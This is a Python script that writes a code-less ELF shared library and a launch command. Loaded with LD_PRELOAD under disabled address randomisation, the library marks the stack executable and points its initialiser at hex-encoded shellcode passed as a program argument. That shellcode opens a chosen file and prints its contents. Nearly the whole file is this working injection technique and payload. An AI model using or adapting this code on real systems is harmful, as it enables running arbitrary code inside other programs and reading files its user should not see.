"""A library without code that makes the program which loads it run somebody's code all the same.

It asks for a stack that can be executed, and names an address on it as its initialiser. What lies there is an argument
of the program, at a place that is known where the kernel does not choose addresses by chance (personality(2)).
"""

from __future__ import annotations

import struct
from pathlib import Path

_STACK_END = 0x7FFFFFFFF000 - 8
_PAGE = 4096
_PLACE = 0xA00  # within the page on which the program's stack begins, which is what becomes executable
_HEADER, _SEGMENT, _TAG = 64, 56, 16
# Opens the path that follows, and writes what it reads there to descriptor 1; the status is the error's number.
_CODE = bytes.fromhex(
    "eb2c5f31f66a02580f0589c731c085ff7815488d7424906a405a0f0589c26a015f89f80f0531fff7df6a3c580f05e8cfffffff"
)


def command(library: Path, program: str, target: str) -> list[str]:
    """Write the library; what runs the program with it, so that it shows a file that has 64 bytes at most."""
    argument = _CODE + target.encode()
    preload = f"LD_PRELOAD={library}"
    below = _STACK_END - len(program) - 1 - len(preload) - 1 - len("P=") - 1 - len(argument) - 1
    padding = (below - _PLACE) % _PAGE
    library.write_bytes(_library(below - padding))
    given = argument.decode(errors="surrogateescape")
    return ["/usr/bin/setarch", "-R", "/usr/bin/env", "-i", preload, "P=" + "p" * padding, program, given]


def _library(initialiser: int) -> bytes:
    """One segment, not executable: its tags, and the array of initialisers."""
    tags_at = _HEADER + 3 * _SEGMENT
    initialisers = tags_at + 7 * _TAG
    strings = initialisers + 8
    size = strings + 8
    tags = [(5, strings), (10, 1), (6, strings), (11, 24), (25, initialisers), (27, 8), (0, 0)]
    return b"".join(
        (
            b"\x7fELF\2\1\1".ljust(16, b"\0"),
            struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, _HEADER, 0, 0, _HEADER, _SEGMENT, 3, 64, 0, 0),
            _segment(1, 6, 0, size, _PAGE),
            _segment(2, 6, tags_at, 7 * _TAG, 8),
            _segment(0x6474E551, 7, 0, 0, 8),  # PT_GNU_STACK
            *(struct.pack("<QQ", *tag) for tag in tags),
            struct.pack("<QQ", initialiser, 0),
        )
    )


def _segment(kind: int, flags: int, at: int, size: int, grain: int) -> bytes:
    return struct.pack("<IIQQQQQQ", kind, flags, at, at, at, size, size, grain)
